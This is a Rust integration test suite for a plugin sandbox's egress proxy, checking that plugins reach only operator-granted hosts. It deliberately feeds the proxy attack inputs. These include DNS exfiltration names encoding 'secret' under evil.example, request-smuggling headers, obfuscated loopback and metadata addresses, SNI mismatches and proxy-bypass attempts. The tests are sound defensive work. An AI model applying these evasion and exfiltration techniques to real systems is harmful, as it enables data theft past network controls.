//! The way out that a plugin is granted: the hosts that the operator named, through the daemon's proxy, and nowhere else. From inside a
//! plugin, with real clients and with attempts to get past the proxy, as root and as an ordinary user.
//!
//! Every server is the test's own, on loopback; names lead there by `egress.hosts`, and loopback is listed for them. Where an attempt is
//! refused, the same attempt is seen to succeed with the one fence taken away that refuses it.
//! Elsewhere: the proxy's rules one by one, and its bounds, are the daemon's test `egress`; that there is no other way out is `isolation`.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use palisade_tests::command::{built, command};
use palisade_tests::daemon::{Daemon, DaemonOptions};
use palisade_tests::package::Package;
use serde_json::{Value, json};

use crate::support::{Outcomes, expect_echo, expect_text, follow, hostile, inside, next_event, outcomes};

/// What the same row meets in a process of this test's own, which takes that for its proxy.
fn outside(row: &str, parameters: &Value, proxy: &str) -> Outcomes {
    let mut program = command(built("palisade-hostile"));
    let output = program.arg(row).arg(parameters.to_string()).env("HTTP_PROXY", proxy).output().expect("it runs");
    assert!(output.status.success(), "{row}: {output:?}");
    outcomes(&serde_json::from_slice(&output.stdout).expect("it prints JSON"))
}

/// The hostile plugin, which asks for everything that is granted here.
fn asking() -> Package {
    hostile("tame").asking(&json!(["execute_code", "network_access"]))
}

/// A daemon whose plugin is granted these hosts; every name beneath `test` is this machine.
fn granting(hosts: &[String], egress: &str) -> Daemon {
    let configuration = format!(
        "[egress]\n{egress}\n[egress.hosts]\n\"a.test\" = [\"127.0.0.1\"]\n\"b.test\" = [\"127.0.0.1\"]\n\
         [plugins.hostile]\ngrant = [\"execute_code\", {{ network_access = {hosts:?} }}]\n"
    );
    Daemon::start(DaemonOptions::with([Package::echo(), asking()]).configuration(&configuration))
}

/// Loopback may be meant by these names.
const LISTED: &str = "allow_addresses = { \"*.test\" = [\"127.0.0.1\"] }";

/// A server that gives every connection this answer, once it has said something, and tells what that was.
struct Plain {
    port: u16,
    heard: mpsc::Receiver<Vec<u8>>,
}

impl Plain {
    fn answering(answer: &'static [u8]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
        let port = listener.local_addr().expect("it is bound").port();
        let (tell, heard) = mpsc::channel();
        // It ends with the test's process, or when nobody wants to hear any more.
        std::thread::spawn(move || {
            for connection in listener.incoming() {
                let Ok(mut connection) = connection else { return };
                let mut bytes = vec![0; 64 << 10];
                let Ok(length) = connection.read(&mut bytes) else { continue };
                bytes.truncate(length);
                let _ = connection.write_all(answer);
                if tell.send(bytes).is_err() {
                    return;
                }
            }
        });
        Self { port, heard }
    }

    fn saw_nobody(&self) -> bool {
        self.heard.try_recv().is_err()
    }
}

/// An HTTPS server for `a.test`, and what it takes to trust it.
struct Secure {
    port: u16,
    authority: String,
    process: Child,
}

impl Drop for Secure {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

const SECURE: &str = include_str!("../servers/https.py");

impl Secure {
    /// None, and the test says so, where a program is missing.
    fn start(test: &str) -> Option<Self> {
        for (program, flag) in
            [("/usr/bin/python3", "--version"), ("/usr/bin/curl", "--version"), ("openssl", "version")]
        {
            let run = command(program).arg(flag).stdout(Stdio::null()).stderr(Stdio::null()).status();
            if !run.is_ok_and(|status| status.success()) {
                println!("SKIPPED {test}: there is no {program} here");
                return None;
            }
        }
        let folder = tempfile::tempdir().expect("a folder");
        let openssl = |arguments: &str| {
            let mut openssl = command("openssl");
            openssl
                .current_dir(folder.path())
                .args("req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2".split(' '));
            let made = openssl.args(arguments.split(' ')).output().expect("openssl runs");
            assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
        };
        openssl("-keyout ca-key.pem -out ca.pem -subj /CN=test-authority");
        openssl(
            "-keyout key.pem -out certificate.pem -subj /CN=a.test -CA ca.pem -CAkey ca-key.pem \
             -addext subjectAltName=DNS:a.test -addext basicConstraints=critical,CA:FALSE",
        );
        let authority = std::fs::read_to_string(folder.path().join("ca.pem")).expect("it was made");
        let mut python = command("/usr/bin/python3");
        python.current_dir(folder.path()).args(["-c", SECURE]).stdout(Stdio::piped());
        let mut process = python.spawn().expect("python runs");
        let mut line = String::new();
        BufReader::new(process.stdout.take().expect("it is piped")).read_line(&mut line).expect("it says its port");
        Some(Self { port: line.trim().parse().expect("a port"), authority, process })
    }
}

#[test]
fn curl_reaches_what_is_granted_and_nothing_else() {
    let Some(secure) = Secure::start("curl_reaches_what_is_granted_and_nothing_else") else { return };
    let plain = Plain::answering(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nplain");
    let daemon = granting(&[format!("a.test:{}", secure.port), format!("a.test:{}", plain.port)], LISTED);
    let mut agent = daemon.agent();
    let events = follow(&mut agent);
    let curl = |url: String| {
        // Its data is the working directory; nothing but what the environment says tells it of the proxy.
        let script = "cat >ca.pem <<END\n$1\nEND\nexec curl --silent --show-error --max-time 20 --cacert ca.pem \"$2\"";
        inside(&daemon, "run", &json!(["/bin/sh", "-c", script, "sh", secure.authority, url]))
    };
    let got = curl(format!("https://a.test:{}/x", secure.port));
    assert_eq!((got["stdout"].as_str(), got["status"].as_str()), ("hello from /x", "0"), "{got:?}");
    let allowed = next_event(&mut agent, events, "connection_allowed");
    let connection = json!({
        "number": 1, "host": "a.test", "port": secure.port, "decision": "allowed",
        "address": format!("127.0.0.1:{}", secure.port), "passage": "tls"
    });
    assert_eq!((&allowed["plugin"], &allowed["connection"]), (&json!("hostile"), &connection));
    let ended = next_event(&mut agent, events, "connection_ended");
    assert_eq!((&ended["connection"]["number"], &ended["connection"]["host"]), (&json!(1), &json!("a.test")));
    for direction in ["bytes_up", "bytes_down"] {
        assert!(ended["connection"][direction].as_u64() > Some(200), "{ended}");
    }
    let got = curl(format!("http://a.test:{}/y", plain.port));
    assert_eq!((got["stdout"].as_str(), got["status"].as_str()), ("plain", "0"), "{got:?}");

    let sentence = |port: u16| format!("b.test:{port} is not among the hosts that network_access grants");
    let got = curl(format!("https://b.test:{}/", secure.port));
    assert_eq!((got["stdout"].as_str(), got["status"].as_str()), ("", "56"), "{got:?}");
    expect_text(&got["stderr"], "CONNECT tunnel failed, response 403");
    let refused = next_event(&mut agent, events, "connection_refused");
    let connection = json!({"number": 3, "host": "b.test", "port": secure.port, "decision": "denied"});
    assert_eq!((&refused["connection"], &refused["reason"]), (&connection, &json!(sentence(secure.port))));
    let got = curl(format!("http://b.test:{}/", plain.port));
    assert_eq!((got["stdout"].trim(), got["status"].as_str()), (sentence(plain.port).as_str(), "0"), "{got:?}");
    // Past the proxy there is no name and no network.
    let got = inside(
        &daemon,
        "run",
        &json!([
            "/usr/bin/curl",
            "--silent",
            "--show-error",
            "--noproxy",
            "*",
            format!("http://a.test:{}/", plain.port)
        ]),
    );
    assert_eq!(got["status"], "6", "{got:?}");
    expect_text(&got["stderr"], "Could not resolve host: a.test");
    expect_text(&daemon.log(), "connection allowed");
    expect_text(&daemon.log(), &sentence(secure.port));
    daemon.stop_and_expect_no_orphans();
}

#[test]
fn python_reaches_what_is_granted_and_nothing_else() {
    let Some(secure) = Secure::start("python_reaches_what_is_granted_and_nothing_else") else { return };
    const PROGRAM: &str = r#"
import ssl, sys, urllib.error, urllib.request
context = ssl.create_default_context(cadata=sys.argv[1])
opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=context))
for url in sys.argv[2:]:
    try:
        with opener.open(url, timeout=20) as response:
            print(response.status, response.read().decode())
    except urllib.error.HTTPError as error:
        print(error.code, error.read().decode().strip())
    except OSError as error:
        print(error)
"#;
    let plain = Plain::answering(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nplain");
    let daemon = granting(&[format!("a.test:{}", secure.port), format!("a.test:{}", plain.port)], LISTED);
    let urls = [
        format!("https://a.test:{}/x", secure.port),
        format!("http://a.test:{}/y", plain.port),
        format!("http://b.test:{}/", plain.port),
        format!("https://b.test:{}/", secure.port),
    ];
    let [a, b, c, d] = &urls;
    let got = inside(&daemon, "run", &json!(["/usr/bin/python3", "-c", PROGRAM, secure.authority, a, b, c, d]));
    let expected = format!(
        "200 hello from /x\n200 plain\n403 b.test:{} is not among the hosts that network_access grants\n\
         <urlopen error Tunnel connection failed: 403 Forbidden>\n",
        plain.port
    );
    assert_eq!((got["stdout"].as_str(), got["stderr"].as_str()), (expected.as_str(), ""));
    daemon.stop_and_expect_no_orphans();
}

/// In the plugin's own process, without a program of others.
#[test]
fn a_rust_client_reaches_what_is_granted_and_nothing_else() {
    let Some(secure) = Secure::start("a_rust_client_reaches_what_is_granted_and_nothing_else") else { return };
    let daemon = granting(&[format!("a.test:{}", secure.port)], LISTED);
    let get = |host: &str| {
        let url = format!("https://{host}:{}/z", secure.port);
        inside(&daemon, "rust-get", &json!({"url": url, "authority": secure.authority})).remove("met")
    };
    assert_eq!(get("a.test").as_deref(), Some("hello from /z"));
    let refused = get("b.test").unwrap_or_default();
    expect_text(&refused, "403");
    daemon.stop_and_expect_no_orphans();
}

/// What a plugin without a grant finds: no variables, nobody at the port, and a report that says so.
#[test]
fn without_a_grant_there_is_no_way_out() {
    let port = |plain: &Plain| format!("a.test:{}", plain.port);
    let plain = Plain::answering(b"HTTP/1.1 200 OK\r\n\r\n");
    let report = |daemon: &Daemon| {
        let info = daemon.operate("info", &json!({"plugin": "hostile"})).expect("it is known");
        let controls = info["guarantees"].as_array().expect("a list").clone();
        let control = controls.into_iter().find(|one| one["control"] == "network_access").expect("it is listed");
        (control["state"].clone(), control["evidence"].as_str().unwrap_or_default().to_owned(), info)
    };

    // Asked for and not granted; granted and not asked for.
    let granted = format!("[plugins.hostile]\ngrant = [{{ network_access = [\"{}\"] }}]\n", port(&plain));
    for (package, configuration, warned) in [(asking(), String::new(), false), (hostile("tame"), granted, true)] {
        let daemon = Daemon::start(DaemonOptions::with([package]).configuration(&configuration));
        assert_eq!(inside(&daemon, "variables", &json!(null)), Outcomes::new());
        let met = inside(&daemon, "tcp-direct", &json!(["127.0.0.1:3128"]));
        assert!(matches!(met["127.0.0.1:3128"].as_str(), "EACCES" | "ECONNREFUSED"), "{met:?}");
        let (state, evidence, info) = report(&daemon);
        assert_eq!(state, "enforced");
        expect_text(&evidence, "no host is granted, and there is no way out");
        let sentence = format!("palisade.toml grants network_access to {}", port(&plain));
        assert_eq!(info["warnings"].to_string().contains(&sentence), warned, "{info}");
        daemon.stop_and_expect_no_orphans();
    }

    let daemon = granting(&[port(&plain)], LISTED);
    let proxy = "http://127.0.0.1:3128";
    let own = "localhost,127.0.0.1,::1";
    let expected = [
        ("HTTPS_PROXY", proxy),
        ("HTTP_PROXY", proxy),
        ("NO_PROXY", own),
        ("http_proxy", proxy),
        ("https_proxy", proxy),
        ("no_proxy", own),
    ];
    let expected: Outcomes = expected.into_iter().map(|(name, value)| (name.to_owned(), value.to_owned())).collect();
    assert_eq!(inside(&daemon, "variables", &json!(null)), expected);
    let (state, evidence, info) = report(&daemon);
    assert_eq!(state, "enforced");
    expect_text(&evidence, &format!("through the daemon's proxy alone, to {}; launcher: listener", port(&plain)));
    assert!(info["permissions"].to_string().contains(&format!("network_access:{}", port(&plain))), "{info}");
    // The proxy's port is all that it may connect to, also on its own loopback.
    let met = inside(&daemon, "tcp-direct", &json!(["127.0.0.1:3128", "127.0.0.1:3129"]));
    assert_eq!(met["127.0.0.1:3128"], "ok");
    assert!(matches!(met["127.0.0.1:3129"].as_str(), "EACCES" | "ECONNREFUSED"), "{met:?}");
    daemon.stop_and_expect_no_orphans();
}

fn connect(host: &str) -> String {
    format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

/// Each request is answered with this status, and the decision is this.
#[track_caller]
fn expect_refused(daemon: &Daemon, requests: &[(String, u16, &str)]) {
    let mut agent = daemon.agent();
    let events = follow(&mut agent);
    for (request, status, decision) in requests {
        let met = inside(daemon, "proxy-ask", &json!([request]));
        assert!(met[request].starts_with(&format!("HTTP/1.1 {status} ")), "{request:.300}\n{met:.300?}");
        let event = next_event(&mut agent, events, "connection_refused");
        assert_eq!(event["connection"]["decision"], *decision, "{request:.300}\n{event}");
    }
}

const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";

#[test]
fn proxy_deny() {
    let plain = Plain::answering(OK);
    let (a, b, port) = (format!("a.test:{}", plain.port), format!("b.test:{}", plain.port), plain.port);
    let get = |host: &str| format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n");
    let daemon = granting(&[format!("*.test:{port}")], &format!("{LISTED}\ndeny = [\"b.test\"]"));
    let denied = |request: String| (request, 403, "denied");
    expect_refused(
        &daemon,
        &[
            denied(connect("evil.example:443")),
            denied(connect(&b)),
            denied(get(&b)),
            denied(connect("a.test:22")),
            denied(connect(&format!("127.0.0.1:{port}"))),
        ],
    );
    assert!(plain.saw_nobody());
    assert_eq!(inside(&daemon, "proxy-ask", &json!([get(&a)]))[&get(&a)], "HTTP/1.1 200 OK");
    expect_echo(&daemon, "hostile");
    daemon.stop_and_expect_no_orphans();
    // The same without the denial.
    let daemon = granting(&[format!("*.test:{port}")], LISTED);
    assert_eq!(inside(&daemon, "proxy-ask", &json!([get(&b)]))[&get(&b)], "HTTP/1.1 200 OK");
    daemon.stop_and_expect_no_orphans();
}

#[test]
fn proxy_rebind() {
    let plain = Plain::answering(OK);
    let port = plain.port;
    let hosts = "[egress.hosts]\n\"loop.test\" = [\"127.0.0.1\"]\n\"six.test\" = [\"::1\"]\n\
                 \"mapped.test\" = [\"::ffff:127.0.0.1\"]\n\"meta.test\" = [\"169.254.169.254\"]\n\
                 \"ten.test\" = [\"10.1.2.3\"]\n\"b16.test\" = [\"172.16.0.1\"]\n\"c24.test\" = [\"192.168.0.1\"]\n";
    let start = |egress: &str| {
        let granted = format!("[plugins.hostile]\ngrant = [{{ network_access = [\"*.test:{port}\"] }}]\n");
        let configuration = format!("{egress}{hosts}{granted}");
        Daemon::start(DaemonOptions::with([asking()]).configuration(&configuration))
    };
    let names = ["loop", "six", "mapped", "meta", "ten", "b16", "c24"];
    let get = |name: &str| format!("GET http://{name}.test:{port}/ HTTP/1.1\r\nHost: {name}.test:{port}\r\n\r\n");
    let daemon = start("");
    let requests: Vec<_> = names
        .iter()
        .flat_map(|name| [connect(&format!("{name}.test:{port}")), get(name)])
        .map(|request| (request, 403, "denied"))
        .collect();
    expect_refused(&daemon, &requests);
    assert!(plain.saw_nobody());
    daemon.stop_and_expect_no_orphans();
    // The same with the address listed. The others lead to networks that are nobody's to try.
    let daemon = start("[egress]\nallow_addresses = { \"loop.test\" = [\"127.0.0.1\"] }\n");
    assert_eq!(inside(&daemon, "proxy-ask", &json!([get("loop")]))[&get("loop")], "HTTP/1.1 200 OK");
    daemon.stop_and_expect_no_orphans();
}

/// A client hello with this server name, in hexadecimal digits.
fn hello(name: &str) -> String {
    let sized = |bytes: &[u8]| [&(bytes.len() as u16).to_be_bytes()[..], bytes].concat();
    let entry = [&[0][..], &sized(name.as_bytes())].concat();
    let extensions = [&[0, 0][..], &sized(&sized(&entry))].concat();
    let body = [&[3, 3][..], &[7; 32], &[0], &sized(&[0x13, 0x01]), &[1, 0], &sized(&extensions)].concat();
    let message = [&[1][..], &(body.len() as u32).to_be_bytes()[1..], &body].concat();
    [&[22, 3, 1][..], &sized(&message)].concat().iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn proxy_sni() {
    let plain = Plain::answering(b"served");
    let to = format!("a.test:{}", plain.port);
    let served = format!("HTTP/1.1 200 Connection established, then {:?}", "736572766564");
    let tunnel = |daemon: &Daemon, bytes: &str| {
        inside(daemon, "proxy-tunnel", &json!({"to": to, "bytes": bytes})).remove("met").unwrap_or_default()
    };
    let other = hello("other.test");
    let http = "474554202f20485454502f312e310d0a0d0a";
    let daemon = granting(std::slice::from_ref(&to), LISTED);
    let mut agent = daemon.agent();
    let events = follow(&mut agent);
    // A TLS alert, unrecognized_name; what is no TLS is closed without a word.
    assert_eq!(tunnel(&daemon, &other), format!("HTTP/1.1 200 Connection established, then {:?}", "15030300020270"));
    let refused = next_event(&mut agent, events, "connection_refused");
    let sentence = "the TLS client hello names the server \"other.test\", but the tunnel is to a.test";
    assert_eq!((&refused["reason"], &refused["connection"]["decision"]), (&json!(sentence), &json!("denied")));
    assert_eq!(tunnel(&daemon, http), "HTTP/1.1 200 Connection established, then \"\"");
    assert_eq!(next_event(&mut agent, events, "connection_refused")["connection"]["decision"], "denied");
    // Both were connected to before their hello was seen, and neither heard a byte of the plugin's.
    for _ in 0..2 {
        assert_eq!(plain.heard.recv().ok().as_deref(), Some(&b""[..]));
    }
    assert_eq!(tunnel(&daemon, &hello("a.test")), served);
    assert!(plain.heard.recv().is_ok_and(|heard| !heard.is_empty()));
    daemon.stop_and_expect_no_orphans();
    // The same where the grant says that anything may pass.
    let daemon = granting(&[format!("{to}/tcp")], LISTED);
    for bytes in [other.as_str(), http] {
        assert_eq!(tunnel(&daemon, bytes), served);
        assert!(plain.heard.recv().is_ok_and(|heard| !heard.is_empty()));
    }
    daemon.stop_and_expect_no_orphans();
}

#[test]
fn proxy_smuggle() {
    let plain = Plain::answering(OK);
    let port = plain.port;
    let daemon = granting(&[format!("a.test:{port}"), format!("b.test:{port}")], LISTED);
    let (url, host) = (format!("http://a.test:{port}/"), format!("Host: a.test:{port}\r\n"));
    let huge = "x".repeat(20 << 10);
    let many = "X: y\r\n".repeat(101);
    let malformed = |request: String| (request, 400, "malformed");
    let requests = [
        malformed(format!("GET {url} HTTP/1.1\r\nHost: b.test:{port}\r\n\r\n")),
        malformed(format!("GET {url} HTTP/1.1\r\n{host}Host: b.test\r\n\r\n")),
        malformed(format!("GET {url} HTTP/1.1\r\nHost: a.test:{port}\rX: y\r\n\r\n")),
        malformed(format!("GET {url} HTTP/1.1\r\n{host}X: a\nHost: b.test\r\n\r\n")),
        malformed(format!(
            "POST {url} HTTP/1.1\r\n{host}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        )),
        (format!("GET {url} HTTP/1.1\r\n{host}X: {huge}\r\n\r\n"), 431, "limited"),
        (format!("GET {url} HTTP/1.1\r\n{host}{many}\r\n"), 431, "limited"),
        malformed(connect(&format!("[::1%25lo]:{port}"))),
        malformed(connect(&format!("a.test.:{port}"))),
        malformed(connect(&format!("b\u{fc}cher.test:{port}"))),
        malformed(connect(&format!("2130706433:{port}"))),
        malformed(connect(&format!("0x7f000001:{port}"))),
        malformed(connect(&format!("0177.0.0.1:{port}"))),
    ];
    expect_refused(&daemon, &requests);
    assert!(plain.saw_nobody());
    daemon.stop_and_expect_no_orphans();
    // Whoever takes what comes takes all of these.
    for (request, _, _) in &requests {
        let met = outside("proxy-ask", &json!([request]), &format!("http://127.0.0.1:{port}"));
        assert_eq!(met[request], "HTTP/1.1 200 OK", "{request:.300}");
    }
}

#[test]
fn dns_exfil() {
    let resolver = UdpSocket::bind("127.0.0.1:0").expect("a port is free");
    resolver.set_nonblocking(true).expect("it can be");
    let address = resolver.local_addr().expect("it is bound").to_string();
    let names = ["c2VjcmV0.evil.example", "a2V5.x7.evil.example"];
    let parameters = json!({"resolver": address, "names": names});
    let seen = || {
        let mut bytes = [0; 512];
        std::iter::from_fn(|| resolver.recv(&mut bytes).ok()).count()
    };
    let daemon = granting(&["a.test".to_owned()], LISTED);
    let met = inside(&daemon, "dns-exfil", &parameters);
    for name in names {
        assert_eq!(met[&format!("getaddrinfo {name}")], "no address", "{met:?}");
    }
    // Nor does the daemon ask on its behalf: what is not granted is not resolved.
    let requests: Vec<_> = names.iter().map(|name| (connect(&format!("{name}:443")), 403, "denied")).collect();
    expect_refused(&daemon, &requests);
    assert_eq!(seen(), 0);
    daemon.stop_and_expect_no_orphans();
    if !["/sbin/ip", "/usr/sbin/ip", "/bin/ip"].iter().any(|path| Path::new(path).exists()) {
        println!("SKIPPED dns-exfil outside: there is no `ip` here to bring up a network of its own");
        return;
    }
    // The same outside, where the questions arrive. A network of its own, so that the names are asked of nobody else.
    let mut apart = command("/usr/bin/unshare");
    let script = "ip link set lo up && printf 'nameserver 127.0.0.1\\n' >resolv && mount --bind resolv /etc/resolv.conf && \
                  exec \"$0\" dns-witness \"$1\"";
    let folder = tempfile::tempdir().expect("a folder");
    apart.current_dir(folder.path()).args(["--user", "--map-root-user", "--net", "--mount", "/bin/sh", "-c", script]);
    let output =
        apart.arg(built("palisade-hostile")).arg(json!({"names": names}).to_string()).output().expect("it runs");
    let witnessed: Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| panic!("{output:?}"));
    for name in names {
        assert_eq!(witnessed[name], "asked", "{witnessed}");
    }
    let unconfined = outside("dns-exfil", &json!({"resolver": address, "names": ["a.invalid"]}), "");
    assert_eq!((unconfined["question a.invalid"].as_str(), seen()), ("sent", 1));
}

/// A tunnel that stands when its process ends is broken off on the other side as well, told as ended, and the next process has a way out of its own.
#[test]
fn the_way_out_ends_with_its_process() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let to = format!("a.test:{}", listener.local_addr().expect("it is bound").port());
    let daemon = granting(&[format!("{to}/tcp")], LISTED);
    let mut agent = daemon.agent();
    let events = follow(&mut agent);
    for _ in 0..2 {
        let mut calling = daemon.agent();
        calling.begin("hostile", "proxy-tunnel", &json!({"to": to, "bytes": "00"}));
        let (mut server, _) = listener.accept().expect("it connects");
        server.read_exact(&mut [0]).expect("the byte passes");
        next_event(&mut agent, events, "connection_allowed");
        let process = Pid::from_raw(i32::try_from(daemon.process_of("hostile")).expect("process numbers are small"));
        kill(process, Signal::SIGKILL).expect("root and the daemon's user may");
        let ended = next_event(&mut agent, events, "connection_ended");
        assert!(ended["connection"]["number"] == 1 && ended["connection"]["bytes_up"] == 1, "{ended}");
        assert!(matches!(server.read(&mut [0]), Ok(0) | Err(_)));
    }
    daemon.stop_and_expect_no_orphans();
}

/// The operator's bounds hold: of two connections at once the second is told that it is one too many.
#[test]
fn its_bounds_are_the_operators() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
    let to = format!("a.test:{}", listener.local_addr().expect("it is bound").port());
    for (limits, second) in [
        ("", "HTTP/1.1 200 Connection established"),
        ("limits = { connections = 1 }", "HTTP/1.1 503 Service Unavailable"),
    ] {
        let daemon = granting(&[format!("{to}/tcp")], &format!("{LISTED}\n{limits}"));
        let met = inside(&daemon, "proxy-crowd", &json!(to));
        let met = (met["first"].as_str(), met["second"].as_str());
        assert_eq!(met, ("HTTP/1.1 200 Connection established", second));
        daemon.stop_and_expect_no_orphans();
    }
}
